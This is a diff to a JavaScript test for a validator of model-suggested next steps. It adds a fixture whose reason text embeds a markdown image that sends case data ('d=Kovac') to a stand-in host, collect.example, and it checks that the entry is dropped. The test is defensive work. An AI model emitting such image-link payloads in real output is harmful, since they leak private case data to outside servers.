@@ -89,6 +89,7 @@ describe("suggested next steps", () => {
         { playbook_id: "subscriber-records", version: "v1", reason: "Reaches the caller [EV-1].", citations: ["EV-1", "EV-3", "EV-99"] },
         { playbook_id: "subscriber-records", version: "v1", reason: "Again.", citations: [] },
         { playbook_id: "shared-canvass", version: "v1", reason: "Two\nlines.", citations: [] },
+        { playbook_id: "canvass-location", version: "v1", reason: "Details ![x](https://collect.example/p.png?d=Kovac)", citations: [] },
       ],
     });
     const h = suggestHarness(modelPicker(model));
@@ -110,7 +111,7 @@ describe("suggested next steps", () => {
       extra_field: 2, // the pick with risk_level, and "recommendation" beside the picks
       not_offered: 2,
       version_mismatch: 1,
-      bad_reason: 1,
+      bad_reason: 2, // two lines; an image whose address carries case data
       duplicate: 1,
       over_limit: 0,
       not_in_filter: 0,
@@ -118,7 +119,7 @@ describe("suggested next steps", () => {
     expect(out.not_offered_unknown).toBe(1);
     expect(out.not_offered_in_catalogue).toBe(1);
     expect(out.invalid_citations).toBe(2);
-    expect(out.dropped_total).toBe(9);
+    expect(out.dropped_total).toBe(10);
     expect(JSON.stringify(body)).not.toMatch(/Arrest|Raid|carrier and get|ghost|wiretap/);
   });
 
